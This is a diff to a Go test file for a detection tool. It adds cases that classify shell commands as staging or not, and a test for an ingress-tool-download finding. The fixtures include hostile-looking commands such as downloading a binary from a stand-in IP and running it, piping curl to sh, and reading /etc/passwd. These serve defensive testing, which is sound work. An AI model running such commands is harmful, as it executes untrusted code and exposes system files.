@@ -46,6 +46,10 @@ func TestStagingOnly(t *testing.T) {
 		{"tar -xzf /tmp/ext.tar.gz -C /var/www/html/ext", true},
 		{"wget -q http://198.51.100.7/x -O /tmp/x", true},
 		{"wget -q http://198.51.100.7/x -O /tmp/x && chmod +x /tmp/x", false},
+		{"cd /dev/shm && wget -q http://198.51.100.7/x && chmod 755 x", false},
+		// an install from the admin page: fetched, unpacked into the web
+		// root, its modes set, the archive removed — staging only
+		{"curl -fsS -o /tmp/p.zip http://127.0.0.1:8000/p.zip && unzip -o -q /tmp/p.zip -d /var/www/html/plugins && chmod -R 755 /var/www/html/plugins/p && rm -f /tmp/p.zip", true},
 		{"wget -q http://198.51.100.7/x -O /tmp/x; /tmp/x", false},
 		{"curl -s http://198.51.100.7/x | sh", false},
 		{"cd /tmp && tar xzf k.tgz && cat /etc/passwd", false},
@@ -122,5 +126,19 @@ func TestWebServerByTitle(t *testing.T) {
 		if got := isWebServer(p); got != c.want {
 			t.Errorf("isWebServer(title %q) = %v, want %v", c.title, got, c.want)
 		}
+	}
+}
+
+// TestDownloadIsStaging: the download rule grades a fetch as staging like
+// the web-server rule does (an install from the admin page fetches
+// archives too); its discarded-output probe stays a low probe.
+func TestDownloadIsStaging(t *testing.T) {
+	fs := execAs(t, 33, "/var/www", "/usr/bin/curl", "curl", "-fsS", "-o", "/tmp/p.zip", "http://127.0.0.1:8000/p.zip")
+	f := findingOf(fs, "ingress-tool-download")
+	if f == nil {
+		t.Fatalf("no ingress-tool-download finding: %v", ids(fs))
+	}
+	if !f.NeedsCorroboration {
+		t.Error("a download alone does not need corroboration")
 	}
 }
